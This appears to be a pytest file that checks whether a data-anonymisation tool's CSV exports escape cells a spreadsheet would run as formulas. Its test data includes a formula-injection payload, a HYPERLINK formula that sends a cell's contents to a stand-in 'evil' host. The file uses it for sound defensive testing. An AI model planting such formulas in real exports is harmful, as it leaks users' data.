"""Names that a spreadsheet would run as formulas, in every file of commas, and back again."""

import csv
import json
from pathlib import Path

import pandas as pd
import pytest

import maxent
from maxent.__main__ import main
from maxent.models.files.result_files import is_formula

EVIL = '=HYPERLINK("http://evil/?"&A1)'
VALUES = [EVIL, "-1+1", "-5"]
CLASSES = ["@yes", "+no"]


@pytest.fixture
def folder(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    people = pd.DataFrame({"=V": [*VALUES * 6], "-W": [f"w;{EVIL}", "w"] * 9})
    truth = people.assign(**{"@T": [CLASSES[i % 3 == 1] for i in range(18)]})
    people.to_csv("qi.csv", index=False)
    truth.to_csv("truth.csv", index=False)
    assert main(["defend", "none", *DEFEND, "-o", "=tree.json", "--inducer", "id3"]) == 0
    return tmp_path


def cells(path):
    with open(path, encoding="utf-8", newline="") as file:
        return [cell for row in csv.reader(file) for cell in row]


DEFEND = ["truth.csv", "--target", "@T", "--qi", "=V,-W", "--categorical", "=V"]
CALLS = {
    "estimate": ["estimate", "=tree.json", "qi.csv", "--truth", "truth.csv", "-o", "out.csv"],
    "bounds": ["bounds", "=tree.json", "qi.csv", "-o", "out.csv"],
    "audit": ["audit", "=tree.json", "qi.csv", "-o", "out.csv"],
    "audit of leaves": ["audit", "=tree.json", "-o", "out.csv"],
    "anonymised table": ["audit", "=tree.json", "--as-table", "out.csv"],
    "explain": ["explain", "=tree.json", "qi.csv", "-o", "out.csv"],
    "compare": ["compare", "=tree.json", "--qi", "qi.csv", "-o", "out.csv"],
    "records": ["defend", "erp", *DEFEND, "--publish", "records", "--k", "2", "-o", "out.csv"],
}


@pytest.mark.parametrize("arguments", CALLS.values(), ids=CALLS)
@pytest.mark.regression(number=10)
def test_no_cell_is_a_formula(folder, arguments):
    assert main(arguments) == 0
    safe = cells("out.csv")
    assert not any(map(is_formula, safe))
    assert main([*arguments, "--csv-literal", "--force"]) == 0
    literal = cells("out.csv")
    assert any(map(is_formula, literal))
    assert [cell for cell in safe if cell not in literal]


def test_numbers_are_no_formulas(folder):
    """Neither a number of ours, nor a value of theirs that is one."""
    assert main(["estimate", "=tree.json", "qi.csv", "-o", "out.csv"]) == 0
    assert "-5" in cells("out.csv")
    maxent.estimate("=tree.json", "qi.csv").save("literal.csv", csv_literal=True)
    table = pd.read_csv("literal.csv")
    assert {*table["=V"]} == {*VALUES}


@pytest.mark.parametrize("suffix", [".json", ".parquet"])
def test_other_files_have_text_as_it_is(folder, suffix):
    assert main(["estimate", "=tree.json", "qi.csv", "-o", f"out{suffix}"]) == 0
    read = pd.DataFrame(json.loads(Path("out.json").read_text())["posterior"]) if suffix == ".json" else None
    table = pd.read_parquet("out.parquet") if read is None else read
    assert EVIL in {*table["=V"]}


@pytest.mark.parametrize("literal", [[], ["--csv-literal"]])
def test_published_records_are_read_back_as_they_were_meant(folder, capsys, literal):
    call = ["defend", "erp", *DEFEND, "--publish", "records", "--k", "2"]
    assert main([*call, "-o", "records.csv", *literal]) == 0
    assert main([*call, "-o", "records.parquet"]) == 0
    found = maxent.estimate("records.csv", "qi.csv")
    pd.testing.assert_frame_equal(found.posterior, maxent.estimate("records.parquet", "qi.csv").posterior)
    assert {*found.posterior["=V"]} == {*VALUES}


def test_ranges_below_zero_are_read_back(tmp_path):
    people = pd.DataFrame({"x": range(-20, 20), "c": ["a", "b"] * 20})
    made = maxent.defend(people, "erp", target="c", qi=["x"], publish="records", k=5)
    made.save(tmp_path / "records.csv")
    assert any(cell.startswith("'-") for cell in cells(tmp_path / "records.csv"))
    made.save(tmp_path / "literal.csv", csv_literal=True)
    assert not any(cell.startswith("'") for cell in cells(tmp_path / "literal.csv"))
    first, second = (
        maxent.estimate(tmp_path / name, people[["x"]]).posterior for name in ("records.csv", "literal.csv")
    )
    pd.testing.assert_frame_equal(first, second)


@pytest.mark.regression(number=10)
def test_a_name_that_begins_with_a_bracket_is_no_argument_of_an_item(folder, capsys):
    Path("qi.csv").rename("[qi].csv")
    assert main(["explain", "=tree.json", "[qi].csv", "--latex"]) == 0
    assert r"\item {[}qi{]}.csv, qi:" in capsys.readouterr().out
